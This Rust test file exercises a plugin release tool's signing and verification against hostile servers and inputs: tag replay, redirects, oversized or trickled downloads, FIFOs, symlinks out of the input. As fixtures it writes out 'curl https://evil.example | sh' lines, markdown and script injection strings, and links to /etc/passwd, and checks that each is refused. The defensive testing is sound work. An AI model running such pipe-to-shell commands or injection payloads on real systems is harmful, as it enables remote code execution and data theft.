//! `release`, `release verify` and `release check` attacked as a hostile
//! server, a hostile input or an unlucky machine would: a release served
//! the way GitHub serves assets (a redirect to another host), a complete
//! older release or a pre-release served under another tag, files beside a
//! release that nothing signs, a server that sends too much or too slowly,
//! inputs whose links leave them or that are FIFOs, an interrupted run, a
//! plugin whose bundled copy of a system library would never be loaded.
//! The peers: Debian's `minisign`, the real dynamic loader, the kernel's
//! view of files and directories.

mod release_support;
mod support;
mod upgrade_support;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use release_support::server::{Reply, Server};
use release_support::*;
use serde_json::Value;
use support::require_command;

const ARCHIVE: &str = "pjrt-cpu-linux-x86_64-v0.1.1.tar.gz";

/// A signed release of the base plugin in `dist` (tag v0.1.1, or the
/// pre-release of `dev`), and the public key file.
fn signed_release(env: &Env, dist: &str, dev: Option<&str>) -> (PathBuf, PathBuf) {
    let (key, public) = minisign_keypair(env);
    let result = env.base_result(&format!("result-{dist}"), "cpu");
    let out = env.path(dist);
    let mut args = vec!["release", result.to_str().unwrap(), "--key", key.to_str().unwrap(), "--out", out.to_str().unwrap()];
    if let Some(date) = dev {
        args.extend(["--dev", "--date", date]);
    }
    assert_ok(&env.xtask(&args), "release");
    (out, public)
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for f in files(from) {
        std::fs::copy(from.join(&f), to.join(&f)).unwrap();
    }
}

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn have_tools() -> bool {
    require_command("minisign") && require_command("sha256sum")
}

// ---- 1. a release served as GitHub serves it -------------------------------

#[test]
fn verify_follows_a_redirect_to_another_host_as_github_serves_assets() {
    let Some(env) = Env::new() else { return };
    if !have_tools() {
        return;
    }
    let (dist, public) = signed_release(&env, "dist", None);
    // The asset host: another port (another origin), its own paths, a query
    // string as objects.githubusercontent.com has.
    let assets = Server::files(&dist);
    let asset_port = assets.port;
    let github = Server::start(move |target| {
        let name = target.rsplit('/').next().unwrap_or("");
        Reply::Redirect(format!(
            "http://127.0.0.1:{asset_port}/production/releases/{name}?X-Amz-Signature=abc&response-content-type=application%2Foctet-stream"
        ))
    });
    let url = github.url("/OWNER/pjrtpkgs/releases/download/v0.1.1/");
    let out = env.xtask(&["release", "verify", &url, "--public-key", public.to_str().unwrap()]);
    assert_ok(&out, "release verify through a redirect to another host");
    assert!(stderr(&out).contains("verified"), "{}", stderr(&out));

    // A server that only ever redirects (to itself) is given up on, saying why.
    let looping = Server::start(|target| Reply::Redirect(format!("{target}x")));
    let out = env.xtask(&[
        "release",
        "verify",
        &looping.url("/OWNER/pjrtpkgs/releases/download/v0.1.1/"),
        "--public-key",
        public.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("redirect"), "{}", stderr(&out));
}

// ---- 2. replay: a release served under another tag -------------------------

#[test]
fn verify_binds_the_signature_to_the_tag_it_is_served_under() {
    let Some(env) = Env::new() else { return };
    if !have_tools() {
        return;
    }
    let (dist, public) = signed_release(&env, "dist", None);
    let key = public.to_str().unwrap();
    let server = Server::files(&dist);
    // The complete, genuinely signed v0.1.1 served as v0.1.2 (say, a
    // known-bad plugin replayed as the next release).
    let out = env.xtask(&["release", "verify", &server.url("/OWNER/pjrtpkgs/releases/download/v0.1.2/"), "--public-key", key]);
    assert_eq!(out.status.code(), Some(2), "a release served under another tag verified:\n{}", stderr(&out));
    assert!(stderr(&out).contains("v0.1.1") && stderr(&out).contains("v0.1.2"), "{}", stderr(&out));
    // Under its own tag it verifies.
    let out = env.xtask(&["release", "verify", &server.url("/OWNER/pjrtpkgs/releases/download/v0.1.1/"), "--public-key", key]);
    assert_ok(&out, "release verify under its own tag");
    // A directory, with the tag given.
    assert_eq!(env.xtask(&["release", "verify", dist.to_str().unwrap(), "--tag", "v0.1.2", "--public-key", key]).status.code(), Some(2));
    assert_ok(&env.xtask(&["release", "verify", dist.to_str().unwrap(), "--tag", "v0.1.1", "--public-key", key]), "verify --tag");

    // A pre-release served under the final tag.
    let (dev, dev_public) = signed_release(&env, "dist-dev", Some("20260301"));
    let server = Server::files(&dev);
    let out = env.xtask(&[
        "release",
        "verify",
        &server.url("/OWNER/pjrtpkgs/releases/download/v0.1.1/"),
        "--public-key",
        dev_public.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2), "a .dev pre-release served as v0.1.1 verified:\n{}", stderr(&out));
    assert!(stderr(&out).contains("v0.1.1.dev20260301"), "{}", stderr(&out));
}

// ---- 3. everything published is listed and signed --------------------------

#[test]
fn verify_refuses_any_file_sha256sums_does_not_list() {
    let Some(env) = Env::new() else { return };
    if !have_tools() {
        return;
    }
    let (dist, public) = signed_release(&env, "dist", None);
    let key = public.to_str().unwrap();
    let verify = |dir: &Path| env.xtask(&["release", "verify", dir.to_str().unwrap(), "--public-key", key]);
    assert_ok(&verify(&dist), "release verify of the release as written");
    for (name, extra) in [("install.sh", &b"#!/bin/sh\ncurl https://evil.example | sh\n"[..]), ("pjrt-cpu-linux-x86_64-v0.1.1.tgz", b"x")] {
        let d = env.path(&format!("extra-{name}"));
        copy_dir(&dist, &d);
        std::fs::write(d.join(name), extra).unwrap();
        let out = verify(&d);
        assert_eq!(out.status.code(), Some(2), "an unlisted {name} verified:\n{}", stderr(&out));
        assert!(stderr(&out).contains(name), "{}", stderr(&out));
    }
    // The notes carry sha256 values and instructions: rewritten, they are refused.
    let d = env.path("rewritten-notes");
    copy_dir(&dist, &d);
    let notes = std::fs::read_to_string(d.join("RELEASE_NOTES.md")).unwrap();
    std::fs::write(d.join("RELEASE_NOTES.md"), notes.replace("sha256sum -c SHA256SUMS", "curl https://evil.example/fix | sh")).unwrap();
    let out = verify(&d);
    assert_eq!(out.status.code(), Some(2), "rewritten notes verified:\n{}", stderr(&out));
    assert!(stderr(&out).contains("RELEASE_NOTES.md"), "{}", stderr(&out));
}

#[test]
fn notes_escape_what_version_info_json_says() {
    let Some(env) = Env::new() else { return };
    let hostile = env.prebuilt_result(
        "hostile-wheel",
        2,
        serde_json::json!({
            "package": "x](https://evil.example/pwn) | ![img](https://evil.example/t.png)\n\n# Install from https://evil.example",
            "version": "1.0 <script>alert(1)</script> `code`",
        }),
    );
    let dist = env.path("dist");
    let out = env.xtask(&["release", hostile.to_str().unwrap(), "--unsigned", "--out", dist.to_str().unwrap()]);
    assert_ok(&out, "release of a wheel with a hostile version_info.json");
    let notes = std::fs::read_to_string(dist.join("RELEASE_NOTES.md")).unwrap();
    assert!(!notes.lines().any(|l| l.starts_with("# Install")), "a heading was injected:\n{notes}");
    assert!(!notes.contains("](https://evil.example"), "a link was injected:\n{notes}");
    assert!(!notes.contains("<script>"), "HTML was injected:\n{notes}");
    let rows: Vec<&str> = notes.lines().filter(|l| l.starts_with("| `pjrt-")).collect();
    assert_eq!(rows.len(), 1, "{notes}");
    assert_eq!(
        rows[0].matches(" | ").count() + 2,
        notes.lines().find(|l| l.starts_with("| archive")).unwrap().matches('|').count(),
        "{notes}"
    );
}

// ---- 4. bounded reads ------------------------------------------------------

#[test]
fn verify_bounds_what_a_server_sends() {
    let Some(env) = Env::new() else { return };
    if !have_tools() {
        return;
    }
    let (dist, public) = signed_release(&env, "dist", None);
    let key = public.to_str().unwrap().to_owned();
    let hostile = |what: &'static str, reply: fn() -> Reply| {
        let dist = dist.clone();
        Server::start(move |target| {
            let name = target.split('?').next().unwrap().rsplit('/').next().unwrap_or("").to_owned();
            if name == what {
                return reply();
            }
            match std::fs::read(dist.join(&name)) {
                Ok(b) => Reply::Body(b),
                Err(_) => Reply::NotFound,
            }
        })
    };
    let verify = |server: &Server, timeout: &str| {
        let url = server.url("/OWNER/pjrtpkgs/releases/download/v0.1.1/");
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_xtask"));
        cmd.args(["--http-timeout", timeout, "release", "verify", &url, "--public-key", &key])
            .current_dir(env.work.path())
            .env("PJRTPKGS_ROOT", env.project.path())
            .env("PJRTPKGS_CACHE_DIR", env.project.cache.path());
        let started = Instant::now();
        let (out, killed) = run_for(&mut cmd, Duration::from_secs(40));
        (out, killed, started.elapsed())
    };

    // 256 MiB where SHA256SUMS should be: refused at its cap, not read whole.
    let flood = hostile("SHA256SUMS", || Reply::Flood { byte: b'0', len: 256 << 20 });
    let (out, killed, took) = verify(&flood, "10");
    assert!(!killed, "verify was still reading a 256 MiB SHA256SUMS after 40 s");
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains("SHA256SUMS") && stderr(&out).contains("larger than"), "{}", stderr(&out));
    eprintln!("256 MiB SHA256SUMS refused in {took:?}");
    // An archive longer than compat.json says it is: refused at that size.
    let flood = hostile(ARCHIVE, || Reply::Flood { byte: b'0', len: 256 << 20 });
    let (out, killed, took) = verify(&flood, "10");
    assert!(!killed);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(stderr(&out).contains(ARCHIVE) && stderr(&out).contains("larger than its size on record"), "{}", stderr(&out));
    eprintln!("256 MiB archive refused at its recorded size in {took:?}");

    // One byte a second, forever: each read answers within --http-timeout,
    // the whole file does not arrive within its deadline.
    for what in ["SHA256SUMS", "SHA256SUMS.minisig", ARCHIVE] {
        let trickle = hostile(what, || Reply::Trickle { byte: b'0', every: Duration::from_millis(500) });
        let (out, killed, took) = verify(&trickle, "2");
        assert!(!killed, "a 2-byte/s trickle of {what} kept verify busy for 40 s (--http-timeout 2)");
        assert_eq!(out.status.code(), Some(1), "{what}: {}", stderr(&out));
        assert!(stderr(&out).contains(what), "{what}: {}", stderr(&out));
        eprintln!("trickled {what} given up in {took:?}: {}", stderr(&out).lines().last().unwrap_or(""));
    }
}

// ---- 5. what the loader will do on the floor system ------------------------

/// A plugin that needs `arc4random@GLIBC_2.36` (Debian 12's glibc; newer
/// than manylinux_2_27), RUNPATH $ORIGIN, next to a copy of the system's
/// libc.so.6: the loader still uses the libc already in the process.
#[test]
fn check_does_not_let_a_bundled_libc_exempt_its_versions() {
    let Some(env) = Env::new() else { return };
    let dir = env.path("bundled-libc/lib");
    let plugin = dir.join("pjrt_c_api_cpu_plugin.so");
    env.plugin(&plugin, 1, "unsigned int random_value(void) { return arc4random(); }", &["-Wl,-rpath,$ORIGIN"]);
    let libc = String::from_utf8(Command::new("cc").arg("-print-file-name=libc.so.6").output().unwrap().stdout).unwrap();
    std::fs::copy(libc.trim(), dir.join("libc.so.6")).unwrap();
    let out = env.xtask(&["release", "check", plugin.to_str().unwrap(), "--json"]);
    assert_eq!(out.status.code(), Some(2), "a GLIBC_2.36 plugin passed because libc.so.6 lies next to it:\n{}", stderr(&out));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let problems = report["files"][0]["problems"].to_string();
    assert!(problems.contains("GLIBC_2.36") && problems.contains("libc.so.6"), "{problems}");

    // The same as a Nix result with lib/libc.so.6: `release` refuses it.
    let result = env.result("result-bundled-libc", "cpu", &plugin, &[&dir.join("libc.so.6")], &env.xla.base, "0.1");
    let dist = env.path("dist");
    let out = env.xtask(&["release", result.to_str().unwrap(), "--unsigned", "--out", dist.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("GLIBC_2.36"), "{}", stderr(&out));
    assert!(!dist.exists());
}

/// DT_NEEDED `/abs/path/libabs.so` (a library linked by its absolute
/// soname): the loader opens that path on the user's machine.
#[test]
fn check_refuses_an_absolute_needed_path() {
    let Some(env) = Env::new() else { return };
    let abs_dir = env.path("abs");
    let abs = abs_dir.join("libabs.so");
    env.cc("int abs_value(void) { return 1; }\n", &abs, &[&format!("-Wl,-soname,{}", abs.display())]);
    let dir = env.path("abs-plugin/lib");
    let plugin = dir.join("pjrt_c_api_cpu_plugin.so");
    env.plugin(
        &plugin,
        1,
        "extern int abs_value(void);\nint uses_abs(void) { return abs_value(); }",
        &[abs.to_str().unwrap(), "-Wl,-rpath,$ORIGIN"],
    );
    let dynamic = String::from_utf8(Command::new("readelf").arg("-d").arg(&plugin).output().unwrap().stdout).unwrap();
    assert!(dynamic.contains(&format!("Shared library: [{}]", abs.display())), "{dynamic}");
    let out = env.xtask(&["release", "check", plugin.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "an absolute DT_NEEDED passed as bundled:\n{}", stderr(&out));
    assert!(stderr(&out).contains(abs.to_str().unwrap()), "{}", stderr(&out));
}

// ---- 6. inputs that leak ---------------------------------------------------

#[test]
fn links_that_leave_an_input_are_refused() {
    let Some(env) = Env::new() else { return };
    let secret = env.path("secret.txt");
    std::fs::write(&secret, "password=hunter2\n").unwrap();
    // A wheel's Nix package shipping its own headers (as xla-cpu-pjrt does),
    // one of them a link out of the result.
    let result = env.prebuilt_result("linked-headers", 2, serde_json::json!({}));
    let include = result.join("include");
    std::fs::create_dir_all(&include).unwrap();
    std::fs::write(include.join("pjrt_c_api.h"), "#define PJRT_API_MAJOR 0\n#define PJRT_API_MINOR 2\n").unwrap();
    std::os::unix::fs::symlink(&secret, include.join("pjrt_c_api_secret.h")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", include.join("pjrt_c_api_passwd.h")).unwrap();
    let dist = env.path("dist");
    let out = env.xtask(&["release", result.to_str().unwrap(), "--unsigned", "--out", dist.to_str().unwrap()]);
    let shipped = dist.exists()
        && files(&dist)
            .iter()
            .filter(|f| f.ends_with(".tar.gz"))
            .any(|f| tar_entries(&dist.join(f)).iter().any(|e| contains(&e.6, b"hunter2") || contains(&e.6, b"root:x:0:0")));
    assert!(!shipped, "a file outside the input was shipped");
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("pjrt_c_api_passwd.h") || stderr(&out).contains("pjrt_c_api_secret.h"), "{}", stderr(&out));
    assert!(!dist.exists());

    // A link that stays inside the input is followed.
    std::fs::remove_file(include.join("pjrt_c_api_secret.h")).unwrap();
    std::fs::remove_file(include.join("pjrt_c_api_passwd.h")).unwrap();
    std::os::unix::fs::symlink("pjrt_c_api.h", include.join("pjrt_c_api_alias.h")).unwrap();
    assert_ok(
        &env.xtask(&["release", result.to_str().unwrap(), "--unsigned", "--out", dist.to_str().unwrap()]),
        "release with an inner link",
    );
}

#[test]
fn special_files_in_an_input_are_refused_by_name() {
    let Some(env) = Env::new() else { return };
    let mkfifo = |p: &Path| {
        std::fs::remove_file(p).ok();
        let status = Command::new("mkfifo").arg(p).status().unwrap();
        assert!(status.success());
    };
    let release = |result: &Path| {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_xtask"));
        cmd.args(["release", result.to_str().unwrap(), "--unsigned", "--out", env.path("dist").to_str().unwrap()])
            .current_dir(env.work.path())
            .env("PJRTPKGS_ROOT", env.project.path())
            .env("PJRTPKGS_CACHE_DIR", env.project.cache.path())
            .env("XLA_REPO", env.xla.path());
        run_for(&mut cmd, Duration::from_secs(30))
    };
    // version_info.json as a FIFO nobody writes to: refused at once, not waited on.
    let result = env.base_result("fifo-info", "cpu");
    mkfifo(&result.join("share/pjrt/version_info.json"));
    let (out, killed) = release(&result);
    assert!(!killed, "release hung on a FIFO version_info.json");
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("version_info.json") && stderr(&out).contains("FIFO"), "{}", stderr(&out));

    // The plugin as a FIFO: named as one, not "missing".
    let result = env.base_result("fifo-plugin", "cpu");
    mkfifo(&result.join("lib/pjrt_c_api_cpu_plugin.so"));
    let (out, killed) = release(&result);
    assert!(!killed, "release hung on a FIFO plugin");
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("pjrt_c_api_cpu_plugin.so") && stderr(&out).contains("FIFO"), "{}", stderr(&out));
    assert!(!env.path("dist").exists());
}

/// A 64 GiB sparse file in lib/ is refused by its size, never read.
#[test]
fn a_huge_sparse_library_is_refused_unread() {
    let Some(env) = Env::new() else { return };
    let result = env.base_result("sparse", "cpu");
    let huge = std::fs::File::create(result.join("lib/libhuge.so")).unwrap();
    huge.set_len(64 << 30).unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_xtask"));
    cmd.args(["release", result.to_str().unwrap(), "--unsigned", "--out", env.path("dist").to_str().unwrap()])
        .current_dir(env.work.path())
        .env("PJRTPKGS_ROOT", env.project.path())
        .env("PJRTPKGS_CACHE_DIR", env.project.cache.path())
        .env("XLA_REPO", env.xla.path());
    let (out, killed) = run_for(&mut cmd, Duration::from_secs(30));
    assert!(!killed, "release kept reading a 64 GiB sparse file");
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).contains("libhuge.so") && stderr(&out).contains("larger than"), "{}", stderr(&out));
}

// ---- 7. leftovers and small faults -----------------------------------------

#[test]
fn an_interrupted_release_is_swept_by_the_next() {
    let Some(env) = Env::new() else { return };
    // A bundled library large enough that the archive takes a while to write.
    let extra = env.libextra();
    let mut big = std::fs::read(extra.join("libextra.so")).unwrap();
    let mut state = 0x2545_f491_4f6c_dd1du64;
    big.extend((0..(24 << 20)).map(|_| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        state as u8
    }));
    let result = env.base_result("big", "cpu");
    std::fs::write(result.join("lib/libbig.so"), &big).unwrap();
    let parent = env.path("out");
    std::fs::create_dir_all(&parent).unwrap();
    let staging = |p: &Path| files(p).into_iter().filter(|f| f.starts_with(".release-")).collect::<Vec<_>>();

    let mut child = Command::new(env!("CARGO_BIN_EXE_xtask"))
        .args(["release", result.to_str().unwrap(), "--unsigned", "--out", parent.join("dist-1").to_str().unwrap()])
        .current_dir(env.work.path())
        .env("PJRTPKGS_ROOT", env.project.path())
        .env("PJRTPKGS_CACHE_DIR", env.project.cache.path())
        .env("XLA_REPO", env.xla.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    while staging(&parent).is_empty() {
        assert!(Instant::now() < deadline, "no staging directory appeared");
        assert!(child.try_wait().unwrap().is_none(), "the release ended before it could be interrupted");
        std::thread::sleep(Duration::from_millis(2));
    }
    child.kill().unwrap(); // SIGKILL: nothing of the process can clean up
    child.wait().unwrap();
    assert_eq!(staging(&parent).len(), 1, "the killed run left its staging directory (as expected)");

    let out = env.xtask(&[
        "release",
        env.base_result("small", "cpu").to_str().unwrap(),
        "--unsigned",
        "--out",
        parent.join("dist-2").to_str().unwrap(),
    ]);
    assert_ok(&out, "the next release");
    assert_eq!(staging(&parent), Vec::<String>::new(), "the next release left the dead run's staging directory behind");
    assert!(!parent.join("dist-1").exists());
}

#[test]
fn out_as_a_symlink_is_refused_before_any_work() {
    let Some(env) = Env::new() else { return };
    let target = env.path("elsewhere");
    std::fs::create_dir_all(&target).unwrap();
    let link = env.path("dist-link");
    std::os::unix::fs::symlink(&target, &link).unwrap();
    let result = env.base_result("result", "cpu");
    let out = env.xtask(&["release", result.to_str().unwrap(), "--unsigned", "--out", link.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("symbolic link"), "{err}");
    assert!(!err.contains("checking") && !err.contains("writing"), "work was done before --out was refused:\n{err}");
    assert!(files(&target).is_empty() && files(env.work.path()).iter().all(|f| !f.starts_with(".release-")));
}

#[test]
fn keygen_makes_its_directories_private_whatever_the_umask() {
    let Some(env) = Env::new() else { return };
    let keys = env.path("new/keys");
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!("umask 000; exec '{}' release keygen --out '{}'", env!("CARGO_BIN_EXE_xtask"), keys.display()))
        .env("PJRTPKGS_ROOT", env.project.path())
        .env_remove("PJRTPKGS_RELEASE_KEY_PASSWORD")
        .output()
        .unwrap();
    assert_ok(&out, "release keygen under umask 000");
    for dir in [env.path("new"), keys.clone()] {
        let mode = std::fs::metadata(&dir).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o700, "{} is {mode:o}", dir.display());
    }
    assert_eq!(std::fs::metadata(keys.join("pjrtpkgs-release.key")).unwrap().permissions().mode() & 0o777, 0o600);
}

#[test]
fn verify_calls_a_listed_fifo_or_symlink_a_problem_of_the_directory() {
    let Some(env) = Env::new() else { return };
    if !have_tools() {
        return;
    }
    let (dist, public) = signed_release(&env, "dist", None);
    for kind in ["fifo", "symlink"] {
        let d = env.path(&format!("dist-{kind}"));
        copy_dir(&dist, &d);
        std::fs::remove_file(d.join(ARCHIVE)).unwrap();
        if kind == "fifo" {
            assert!(Command::new("mkfifo").arg(d.join(ARCHIVE)).status().unwrap().success());
        } else {
            std::os::unix::fs::symlink(dist.join(ARCHIVE), d.join(ARCHIVE)).unwrap();
        }
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_xtask"));
        cmd.args(["release", "verify", d.to_str().unwrap(), "--public-key", public.to_str().unwrap()])
            .env("PJRTPKGS_ROOT", env.project.path());
        let (out, killed) = run_for(&mut cmd, Duration::from_secs(30));
        assert!(!killed, "verify hung on a listed {kind}");
        let err = stderr(&out);
        assert_eq!(out.status.code(), Some(2), "a listed {kind}: {err}");
        assert!(err.contains(ARCHIVE) && err.contains(d.to_str().unwrap()), "{err}");
        assert!(!err.contains("cache"), "the message speaks of a cache: {err}");
    }
}

// ---- 8. the workflow signs in a job of its own -----------------------------

/// `release --unsigned` (the job without secrets), then `release sign`
/// (the job with the key): the result verifies with minisign and `release
/// verify`; nothing is signed that does not verify first.
#[test]
fn sign_signs_only_a_release_that_verifies() {
    let Some(env) = Env::new() else { return };
    if !have_tools() {
        return;
    }
    let (key, public) = minisign_keypair(&env);
    let result = env.base_result("result", "cpu");
    let dist = env.path("dist");
    assert_ok(
        &env.xtask(&["release", result.to_str().unwrap(), "--unsigned", "--tag", "v0.1.1", "--out", dist.to_str().unwrap()]),
        "unsigned release",
    );
    assert_ok(&env.xtask(&["release", "verify", dist.to_str().unwrap(), "--unsigned", "--tag", "v0.1.1"]), "verify --unsigned");
    let sign = |dir: &Path, tag: &str| env.xtask(&["release", "sign", dir.to_str().unwrap(), "--tag", tag, "--key", key.to_str().unwrap()]);

    // Not as another tag, not with a file nothing lists.
    let out = sign(&dist, "v0.1.2");
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("v0.1.2") && !dist.join("SHA256SUMS.minisig").exists(), "{}", stderr(&out));
    let extra = env.path("dist-extra");
    copy_dir(&dist, &extra);
    std::fs::write(extra.join("install.sh"), "#!/bin/sh\n").unwrap();
    let out = sign(&extra, "v0.1.1");
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stderr(&out).contains("install.sh") && !extra.join("SHA256SUMS.minisig").exists(), "{}", stderr(&out));

    assert_ok(&sign(&dist, "v0.1.1"), "release sign");
    let out = Command::new("minisign").args(["-V", "-m"]).arg(dist.join("SHA256SUMS")).arg("-p").arg(&public).output().unwrap();
    assert_ok(&out, "minisign -V of the signed release");
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("Trusted comment: pjrtpkgs v0.1.1 SHA256SUMS"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_ok(
        &env.xtask(&["release", "verify", dist.to_str().unwrap(), "--tag", "v0.1.1", "--public-key", public.to_str().unwrap()]),
        "verify",
    );
    // Twice: refused, the signature kept.
    let before = std::fs::read(dist.join("SHA256SUMS.minisig")).unwrap();
    assert_eq!(sign(&dist, "v0.1.1").status.code(), Some(1));
    assert_eq!(std::fs::read(dist.join("SHA256SUMS.minisig")).unwrap(), before);
}
